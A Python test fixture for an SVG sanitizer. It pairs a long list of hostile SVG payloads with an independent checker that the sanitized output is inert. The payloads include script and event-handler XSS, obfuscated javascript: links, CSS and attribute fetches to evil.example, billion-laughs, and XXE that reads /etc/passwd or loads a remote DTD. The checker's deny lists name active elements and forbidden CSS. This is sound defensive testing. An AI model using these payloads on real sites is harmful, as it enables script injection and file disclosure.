"""Hostile SVGs, and a checker that a sanitized SVG cannot run script or fetch anything.

`PAYLOADS` is a list of `(name, bytes)`: script in every spelling, event handlers, links
with obfuscated schemes, elements that fetch or animate, CSS that fetches or runs,
DTD and entity attacks, HTML smuggled into SVG. Each one must be refused (ImageRejected) or
come out inert by `assert_inert`, which re-parses the output on its own terms and does not
share any code or list with the sanitizer.

Payloads built with `_doc` also carry `KEEP`, a harmless rect that must survive.
"""

from __future__ import annotations

import re

from defusedxml.ElementTree import fromstring

SVG_NS = "http://www.w3.org/2000/svg"
XLINK_NS = "http://www.w3.org/1999/xlink"
XML_NS = "http://www.w3.org/XML/1998/namespace"
XHTML_NS = "http://www.w3.org/1999/xhtml"

KEEP = '<rect id="keep" width="10" height="10" fill="#0a0"/>'

# A tiny valid PNG (1x1, transparent), for data URIs that must survive.
PNG_BASE64 = (
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAC"
    "hwGA60e6kgAAAABJRU5ErkJggg=="
)


def _doc(body: str, *, root_attributes: str = "") -> bytes:
    return (
        f'<svg xmlns="{SVG_NS}" xmlns:xlink="{XLINK_NS}" width="100" height="100"'
        f"{root_attributes}>{KEEP}{body}</svg>"
    ).encode()


_BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE svg [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
  <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
  <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
  <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
  <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
  <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<svg xmlns="http://www.w3.org/2000/svg"><text>&lol9;</text></svg>"""

PAYLOADS: list[tuple[str, bytes]] = [
    # Script elements
    ("script_plain", _doc("<script>alert(1)</script>")),
    ("script_cdata", _doc("<script><![CDATA[alert(document.domain)]]></script>")),
    (
        "script_namespaced_prefix",
        _doc(f'<s:script xmlns:s="{SVG_NS}" type="text/javascript">alert(1)</s:script>'),
    ),
    ("script_external_src", _doc('<script xlink:href="https://evil.example/x.js"/>')),
    ("script_upper_case", _doc("<SCRIPT>alert(1)</SCRIPT>")),
    ("script_in_defs", _doc("<defs><g><script>alert(1)</script></g></defs>")),
    ("script_in_title", _doc("<title>t<script>alert(1)</script></title>")),
    (
        "script_without_namespace",
        b'<svg width="10" height="10"><rect id="keep"/><script>alert(1)</script></svg>',
    ),
    ("nested_svg_with_script", _doc("<g><svg><svg><script>alert(1)</script></svg></svg></g>")),
    ("svg_tiny_handler", _doc('<handler type="application/ecmascript">alert(1)</handler>')),
    ("svg_tiny_listener", _doc('<listener event="click" handler="#h"/>')),
    # Event handlers
    ("onload_on_root", _doc("", root_attributes=' onload="alert(1)"')),
    ("onload_mixed_case", _doc("", root_attributes=' OnLoad="alert(1)"')),
    ("onload_upper_case", _doc('<g ONLOAD="alert(1)"/>')),
    (
        "onmouseover_nested",
        _doc('<g><g><rect width="5" height="5" onmouseover="alert(1)"/></g></g>'),
    ),
    (
        "onerror_on_image",
        _doc(f'<image href="data:image/png;base64,{PNG_BASE64}" onerror="alert(1)"/>'),
    ),
    ("onclick_on_link", _doc('<a href="#keep" onclick="alert(1)"><text>x</text></a>')),
    (
        "onload_in_foreign_namespace",
        _doc('<g xmlns:x="https://evil.example/ns" x:onload="alert(1)"/>'),
    ),
    ("onload_in_svg_namespace_prefix", _doc(f'<g xmlns:s="{SVG_NS}" s:onload="alert(1)"/>')),
    # javascript: and other schemes in links
    ("a_href_javascript", _doc('<a href="javascript:alert(1)"><text>x</text></a>')),
    ("a_xlink_href_javascript", _doc('<a xlink:href="javascript:alert(1)"><text>x</text></a>')),
    ("a_href_javascript_literal_tab", _doc('<a href="java\tscript:alert(1)"><text>x</text></a>')),
    (
        "a_href_javascript_tab_reference",
        _doc('<a href="java&#9;script:alert(1)"><text>x</text></a>'),
    ),
    (
        "a_href_javascript_newline_reference",
        _doc('<a href="java&#10;script:alert(1)"><text>x</text></a>'),
    ),
    (
        "a_href_javascript_leading_whitespace",
        _doc('<a href=" &#13;&#10; javascript:alert(1)"><text>x</text></a>'),
    ),
    (
        "a_href_javascript_invisible_characters",
        _doc('<a href="java&#x7F;scr&#x85;ipt&#x200B;:alert(1)"><text>x</text></a>'),
    ),
    ("a_href_javascript_entity", _doc('<a href="&#106;avascript:alert(1)"><text>x</text></a>')),
    (
        "a_href_javascript_hex_entities",
        _doc('<a xlink:href="&#x6A;&#x61;vascript&#x3A;alert(1)"><text>x</text></a>'),
    ),
    ("a_href_javascript_percent", _doc('<a href="%6Aavascript:alert(1)"><text>x</text></a>')),
    (
        "a_href_javascript_double_percent",
        _doc('<a href="%256Aavascript%253Aalert(1)"><text>x</text></a>'),
    ),
    ("a_href_javascript_mixed_case", _doc('<a href="JaVaScRiPt:alert(1)"><text>x</text></a>')),
    (
        "a_href_mixed_case_xlink_attribute",
        _doc(f'<a xmlns:XLINK="{XLINK_NS}" XLINK:HrEf="javascript:alert(1)"><text>x</text></a>'),
    ),
    ("a_href_upper_case_attribute", _doc('<a HREF="javascript:alert(1)"><text>x</text></a>')),
    ("a_href_vbscript", _doc('<a href="vbscript:msgbox(1)"><text>x</text></a>')),
    (
        "a_href_data_text_html",
        _doc(
            '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">'
            "<text>x</text></a>"
        ),
    ),
    ("a_href_external", _doc('<a href="https://evil.example/phish"><text>x</text></a>')),
    ("a_href_protocol_relative", _doc('<a href="//evil.example/phish"><text>x</text></a>')),
    ("a_href_fragment_lookalike", _doc('<a href="%23keep"><text>x</text></a>')),
    (
        "xml_base_javascript",
        _doc('<a xml:base="javascript:alert(1)//" href="#keep"><text>x</text></a>'),
    ),
    # Elements that pull in other documents, or rewrite attributes later
    ("use_external", _doc('<use href="http://evil.example/x.svg#a"/>')),
    ("use_xlink_external", _doc('<use xlink:href="https://evil.example/x.svg#a"/>')),
    (
        "use_data_uri",
        _doc(
            '<use href="data:image/svg+xml;base64,PHN2ZyBpZD0iYSIgeG1sbnM9Imh0dHA6Ly93d3cudzMub3Jn'
            'LzIwMDAvc3ZnIiBvbmxvYWQ9ImFsZXJ0KDEpIi8+#a"/>'
        ),
    ),
    ("use_local_fragment", _doc('<use href="#keep" x="20"/>')),
    ("image_external", _doc('<image href="http://evil.example/x.png" width="10" height="10"/>')),
    ("image_protocol_relative", _doc('<image href="//evil.example/x.png"/>')),
    ("image_javascript", _doc('<image xlink:href="javascript:alert(1)"/>')),
    (
        "image_data_svg",
        _doc('<image href="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+"/>'),
    ),
    ("image_data_percent_encoded", _doc(f'<image href="data%3Aimage/png;base64,{PNG_BASE64}"/>')),
    ("image_data_not_base64", _doc('<image href="data:image/png,&lt;script&gt;alert(1)"/>')),
    (
        "fe_image_external",
        _doc('<filter id="f"><feImage href="http://evil.example/x.png"/></filter>'),
    ),
    (
        "text_path_external",
        _doc('<text><textPath href="http://evil.example/p.svg#p">x</textPath></text>'),
    ),
    ("gradient_external", _doc('<linearGradient id="g" href="https://evil.example/g.svg#g"/>')),
    ("pattern_external", _doc('<pattern id="p" xlink:href="https://evil.example/p.svg#p"/>')),
    ("filter_external", _doc('<filter id="f" xlink:href="https://evil.example/f.svg#f"/>')),
    ("tref_external", _doc('<text><tref xlink:href="https://evil.example/t.svg#t"/></text>')),
    ("href_on_rect", _doc('<rect href="javascript:alert(1)" xlink:href="https://evil.example"/>')),
    (
        "animate_href_to_javascript",
        _doc(
            '<a href="#keep"><animate attributeName="href" to="javascript:alert(1)"/>'
            "<text>x</text></a>"
        ),
    ),
    (
        "animate_xlink_href_values",
        _doc(
            '<a xlink:href="#keep"><animate attributeName="xlink:href" '
            'values="javascript:alert(1)" begin="0s"/><text>x</text></a>'
        ),
    ),
    ("set_onload", _doc('<set attributeName="onload" to="alert(1)"/>')),
    ("set_href", _doc('<a><set attributeName="href" to="javascript:alert(1)"/><text>x</text></a>')),
    ("animate_onbegin", _doc('<animate onbegin="alert(1)" attributeName="x" dur="1s"/>')),
    ("animate_transform", _doc('<animateTransform attributeName="transform" type="rotate"/>')),
    (
        "animate_motion",
        _doc('<animateMotion dur="1s"><mpath href="http://evil.example"/></animateMotion>'),
    ),
    # HTML inside SVG
    (
        "foreign_object_iframe",
        _doc(
            f'<foreignObject width="100" height="100"><iframe xmlns="{XHTML_NS}" '
            'src="javascript:alert(1)"/></foreignObject>'
        ),
    ),
    (
        "foreign_object_html_script",
        _doc(
            f'<foreignObject><body xmlns="{XHTML_NS}"><script>alert(1)</script>'
            '<img src="x" onerror="alert(1)"/></body></foreignObject>'
        ),
    ),
    ("xhtml_iframe", _doc(f'<h:iframe xmlns:h="{XHTML_NS}" src="https://evil.example"/>')),
    ("xhtml_embed", _doc(f'<h:embed xmlns:h="{XHTML_NS}" src="https://evil.example/x.swf"/>')),
    ("xhtml_object", _doc(f'<h:object xmlns:h="{XHTML_NS}" data="https://evil.example/x"/>')),
    (
        "xhtml_script_default_namespace",
        _doc(f'<div xmlns="{XHTML_NS}"><script>alert(1)</script></div>'),
    ),
    ("xhtml_svg_lookalike", _doc(f'<svg xmlns="{XHTML_NS}"><script>alert(1)</script></svg>')),
    ("iframe_in_svg_namespace", _doc('<iframe src="javascript:alert(1)"/>')),
    ("unknown_element", _doc('<blink onclick="alert(1)"><rect id="inside-unknown"/></blink>')),
    (
        "xinclude",
        _doc('<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/>'),
    ),
    # CSS
    ("css_import", _doc("<style>@import url(http://evil.example/x.css);</style>")),
    (
        "css_import_string",
        _doc("<style>@import 'https://evil.example/x.css'; rect{fill:red}</style>"),
    ),
    ("css_import_cdata", _doc("<style><![CDATA[@import url(//evil.example/x.css);]]></style>")),
    (
        "css_font_face",
        _doc("<style>@font-face{font-family:x;src:url(https://evil.example/f.woff)}</style>"),
    ),
    (
        "css_media_wrapping_url",
        _doc("<style>@media all{rect{fill:url(https://evil.example/p#p)}}</style>"),
    ),
    ("css_namespace_rule", _doc("<style>@namespace url(https://evil.example/ns);</style>")),
    (
        "css_background_url_attribute",
        _doc('<rect style="background:url(http://evil.example/x.png)"/>'),
    ),
    (
        "css_background_url_element",
        _doc("<style>rect{background:url(http://evil.example/x.png)}</style>"),
    ),
    (
        "css_fill_external_url_attribute",
        _doc('<rect style="fill:url(https://evil.example/p.svg#p)"/>'),
    ),
    (
        "css_fill_external_url_element",
        _doc("<style>.a{fill:url('//evil.example/p.svg#p')}</style>"),
    ),
    ("css_cursor_url", _doc('<rect style="cursor:url(https://evil.example/c.cur),auto"/>')),
    ("css_image_set", _doc("<rect style=\"fill:image-set('https://evil.example/x.png' 1x)\"/>")),
    ("css_expression", _doc('<rect style="width:expression(alert(1))"/>')),
    ("css_expression_in_fill", _doc("<style>rect{fill:expression(alert(1))}</style>")),
    ("css_behavior", _doc('<rect style="behavior:url(https://evil.example/x.htc)"/>')),
    ("css_moz_binding", _doc('<rect style="-moz-binding:url(https://evil.example/x.xml#x)"/>')),
    ("css_escaped_url_attribute", _doc('<rect style="fill:\\75 rl(https://evil.example/p#p)"/>')),
    (
        "css_escaped_url_element",
        _doc("<style>rect{f\\69ll:\\75\\72\\6c(https://evil.example/p#p)}</style>"),
    ),
    ("css_escaped_expression", _doc('<rect style="fill:\\65xpression(alert(1))"/>')),
    ("css_comment_split_url", _doc('<rect style="fill:u/**/rl(https://evil.example/p#p)"/>')),
    (
        "css_brace_breakout",
        _doc('<rect style="fill:red}rect{fill:url(https://evil.example/p#p)"/>'),
    ),
    ("css_javascript_string", _doc("<rect style=\"font-family:'javascript:alert(1)'\"/>")),
    (
        "css_custom_property",
        _doc('<rect style="--x:url(https://evil.example/p#p);fill:var(--x)"/>'),
    ),
    # url() in presentation attributes
    ("fill_attribute_external_url", _doc('<rect fill="url(http://evil.example/p.svg#p)"/>')),
    ("filter_attribute_external_url", _doc('<rect filter="url(https://evil.example/f.svg#f)"/>')),
    ("mask_attribute_protocol_relative", _doc('<rect mask="url(//evil.example/m.svg#m)"/>')),
    (
        "marker_attribute_quoted_external",
        _doc('<path d="M0 0L9 9" marker-end="url(\'https://evil.example/m#m\')"/>'),
    ),
    (
        "clip_path_attribute_data_uri",
        _doc('<rect clip-path="url(data:image/svg+xml;base64,PHN2Zy8+#c)"/>'),
    ),
    (
        "fill_attribute_entity_encoded_url",
        _doc('<rect fill="url(&#x68;ttps://evil.example/p#p)"/>'),
    ),
    ("fill_attribute_escaped_url", _doc('<rect fill="\\75 rl(https://evil.example/p#p)"/>')),
    # XML-level attacks
    ("billion_laughs", _BILLION_LAUGHS),
    (
        "xxe_file",
        b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
        b'<svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>',
    ),
    (
        "xxe_parameter_entity",
        b'<!DOCTYPE svg [<!ENTITY % p SYSTEM "https://evil.example/x.dtd"> %p;]>'
        b'<svg xmlns="http://www.w3.org/2000/svg"><text>&exfil;</text></svg>',
    ),
    (
        "external_dtd",
        b'<!DOCTYPE svg SYSTEM "https://evil.example/x.dtd">'
        b'<svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>',
    ),
    (
        "external_dtd_unused",
        b'<!DOCTYPE svg SYSTEM "https://evil.example/x.dtd">' + _doc(""),
    ),
    (
        "external_dtd_behind_standard_public_id",
        b'<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "https://evil.example/x.dtd">'
        b'<svg xmlns="http://www.w3.org/2000/svg"/>',
    ),
    (
        "standard_doctype_with_internal_entities",
        b'<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" '
        b'"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd" [<!ENTITY js "javascript:alert(1)">]>'
        b'<svg xmlns="http://www.w3.org/2000/svg"><a href="&js;"><text>x</text></a></svg>',
    ),
    (
        "xml_stylesheet_processing_instruction",
        b'<?xml-stylesheet type="text/css" href="https://evil.example/x.css"?>' + _doc(""),
    ),
    (
        "html_root",
        f'<html xmlns="{XHTML_NS}"><body><script>alert(1)</script></body></html>'.encode(),
    ),
    (
        "svg_root_in_foreign_namespace",
        b'<svg xmlns="https://evil.example/ns"><script>alert(1)</script></svg>',
    ),
    (
        "utf16_encoded",
        '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'.encode("utf-16"),
    ),
    (
        "utf7_declared",
        b'<?xml version="1.0" encoding="UTF-7"?><svg xmlns="http://www.w3.org/2000/svg">'
        b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-</svg>",
    ),
]


# Element names (lower case) that run script, fetch, animate, or embed other documents.
_ACTIVE_ELEMENTS = frozenset(
    {
        "script", "foreignobject", "use", "animate", "animatemotion", "animatetransform",
        "animatecolor", "set", "feimage", "handler", "listener", "iframe", "embed", "object",
        "tref", "altglyph", "mpath", "discard",
    }
)  # fmt: skip
_RASTER_DATA_URI = re.compile(r"data:image/(png|jpeg|gif|webp);base64,[A-Za-z0-9+/]+={0,2}")
_CSS_FORBIDDEN = ("@", "\\", "expression", "javascript", "vbscript", "behavior", "-moz-binding")
_ATTRIBUTE_FORBIDDEN = ("javascript:", "vbscript:", "expression(", "-moz-binding")


def assert_inert(svg: bytes) -> None:
    """Fail unless `svg` is an SVG document with nothing that can run or fetch."""
    text = svg.decode("utf-8")
    for marker in ("<!DOCTYPE", "<!ENTITY", "<?", "<!--", "<![CDATA["):
        assert marker not in text, f"output contains {marker}"
    root = fromstring(svg, forbid_dtd=True, forbid_entities=True, forbid_external=True)
    assert root.tag == f"{{{SVG_NS}}}svg", f"root is {root.tag}"
    for element in root.iter():
        namespace, name = _split(element.tag)
        assert namespace == SVG_NS, f"element outside the SVG namespace: {element.tag}"
        assert name.lower() not in _ACTIVE_ELEMENTS, f"active element <{name}>"
        for key, value in element.attrib.items():
            _assert_inert_attribute(name, key, value)
        if name == "style":
            _assert_inert_css(element.text or "")


def _assert_inert_attribute(element: str, key: str, value: str) -> None:
    namespace, name = _split(key)
    assert namespace in ("", XLINK_NS, XML_NS), f"attribute in namespace {namespace}"
    assert not name.lower().startswith("on"), f"event handler {name} on <{element}>"
    if namespace == XML_NS:
        assert name in ("space", "lang"), f"xml:{name} on <{element}>"
    if name.lower() in ("href", "src", "action", "formaction"):
        assert value.startswith("#") or (
            element == "image" and _RASTER_DATA_URI.fullmatch(value)
        ), f"{name}={value[:80]!r} on <{element}>"
        return
    compact = "".join(value.split()).lower()
    if name == "style":
        _assert_inert_css(value)
    for word in _ATTRIBUTE_FORBIDDEN:
        assert word not in compact, f"{word} in {name}={value[:80]!r} on <{element}>"
    _assert_only_fragment_urls(compact, f"{name} on <{element}>")


def _assert_inert_css(css: str) -> None:
    compact = "".join(css.split()).lower()
    for word in _CSS_FORBIDDEN:
        assert word not in compact, f"{word} in CSS {css[:120]!r}"
    _assert_only_fragment_urls(compact, f"CSS {css[:120]!r}")


def _assert_only_fragment_urls(compact: str, where: str) -> None:
    start = compact.find("url(")
    while start != -1:
        rest = compact[start + 4 :].lstrip("\"'")
        assert rest.startswith("#"), f"non-fragment url( in {where}"
        start = compact.find("url(", start + 4)


def _split(name: str) -> tuple[str, str]:
    if name.startswith("{"):
        namespace, _, local = name[1:].partition("}")
        return namespace, local
    return "", name
